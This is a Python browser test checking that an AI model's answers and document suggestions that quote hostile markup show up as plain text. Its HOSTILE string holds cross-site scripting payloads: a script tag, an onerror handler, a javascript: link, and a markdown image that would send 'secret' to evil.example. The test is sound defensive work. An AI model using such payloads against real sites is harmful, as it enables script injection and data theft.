"""What a model answers or proposes is shown as text: nothing of it runs, is followed, or is fetched from elsewhere."""

import pytest
from httpx import AsyncClient
from playwright.async_api import Request, expect

from app.bootstrap import Colophon
from tests.browser.conftest import SignIn
from tests.browser.house import get, post
from tests.support.knowing import indexed
from tests.support.waiting import until
from tests.support.world import Tenant

pytestmark = pytest.mark.requires("chromium")

HOSTILE = (
    "The ferry leaves at noon <img src=x onerror=\"document.title='taken'\"> "
    "<script>document.title='taken'</script> ![chart](https://evil.example/?q=secret) [here](javascript:alert(1))."
)


async def test_an_answer_and_a_proposal_are_shown_as_text(
    colophon: Colophon, acme: Tenant, server_url: str, sign_in: SignIn
) -> None:
    # given a document whose text is markup, an answer that quotes it, and a proposal of the same
    async with AsyncClient(base_url=server_url, timeout=90) as http:
        plain = await post(http, acme.ana, "/documents", title="Ferry", body="plain", text=HOSTILE)
        rich = await post(http, acme.ana, "/documents", title="Notes", markdown="Nothing yet.")
        change = {"block_from": 0, "block_to": 1, "replacement": HOSTILE}
        await post(http, acme.ana, f"/documents/{rich['id']}/suggestions", **change)
        await indexed(colophon, acme, plain["receipt"]["position"], with_vectors=True)
        talk = await post(http, acme.ana, "/conversations", assistant="chat")
        await post(http, acme.ana, f"/conversations/{talk['id']}/messages", text="When does the ferry leave?")
        await until(lambda: get(http, acme.ana, f"/conversations/{talk['id']}"), lambda now: now["running"] is None)
    asked_for: list[str] = []

    def note(request: Request) -> None:
        asked_for.append(request.url)

    # when both are looked at
    for path, words in (
        (f"/assistant/{talk['id']}", "The ferry leaves at noon"),
        (f"/d/{rich['id']}?panel=suggestions", "The ferry leaves at noon"),
    ):
        page = await sign_in("ana", path)
        page.on("request", note)
        await page.reload()
        await expect(page.get_by_text(words).first).to_be_visible()
        # then
        main = page.locator("main")
        assert await main.locator("script, iframe, [onerror], a[href^='javascript' i]").count() == 0
        assert await main.locator("img[src^='http']:not([src*='127.0.0.1'])").count() == 0
        assert await page.title() != "taken"
    assert not [url for url in asked_for if "evil.example" in url]
